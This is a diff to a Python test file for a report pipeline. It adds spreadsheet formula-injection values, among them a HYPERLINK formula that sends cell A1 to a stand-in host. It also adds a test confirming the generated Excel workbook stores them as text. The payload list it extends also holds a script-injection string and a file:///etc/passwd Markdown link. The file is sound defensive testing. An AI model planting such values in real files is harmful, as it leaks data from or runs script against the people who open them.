@@ -45,6 +45,8 @@ PAYLOADS = (
     "![x](file:///etc/passwd)",
     "</td></tr></table><script>document.title='pwned'</script>",
 )
+#: School names that Excel, LibreOffice or Google Sheets would run as formulas if a cell held them.
+FORMULAS = ('=HYPERLINK("http://example.invalid/?leak="&A1,"Open")', "+1+1", "-2+3", "@SUM(1+1)")
 #: Every payload in one value, for the fields that hold one value (the plan's programme).
 ALL = " ".join(PAYLOADS)
 #: Markdown contexts a value meets in the report: a paragraph, a bullet, a heading, bold, a code span.
@@ -484,6 +486,8 @@ def hostile_data(demo_data: Path, target: Path) -> Path:
         rename_school(frame)
         for column in ("school_name", "province", "school_type", "partnership_id"):
             frame[column] = frame[column].map(with_all)
+        for row, value in enumerate(FORMULAS, start=1):  # names Excel would take for formulas
+            frame.loc[row, "school_name"] = value
 
     def hostile_exams(frame: pd.DataFrame) -> None:
         rename_school(frame)
@@ -634,3 +638,33 @@ def test_the_school_pages_and_their_index_show_every_payload_as_text(hostile_run
     page = Page((folder / counted).read_text(encoding="utf-8"))
     assert f"{first['school_name']} ({first['province']})" in page.words
     assert f"{first['partnership_id']}" in page.words
+
+
+@pytest.mark.slow
+def test_the_runs_workbook_holds_no_formula_and_shows_formula_like_names_as_text(
+    hostile_run: tuple[Path, list], tmp_path: Path
+) -> None:
+    """results.xlsx of the hostile run, read back: no cell of any sheet is a formula (nor is there
+    a formula element in the file's XML), and the school names that look like formulas are text
+    cells holding the name as written, beside the school's id."""
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    out, _ = hostile_run
+    path = out / "shared" / "results.xlsx"
+    with zipfile.ZipFile(path) as archive:
+        for member in archive.namelist():
+            if member.endswith(".xml"):
+                xml = archive.read(member).decode("utf-8")
+                assert "<f>" not in xml and "<f " not in xml, member
+    workbook = load_workbook(path)
+    found = {}
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate)
+                if cell.value in FORMULAS:
+                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
+                    found.setdefault(cell.value, sheet.title)
+    assert set(found) == set(FORMULAS)  # every one of them reached the workbook, as text
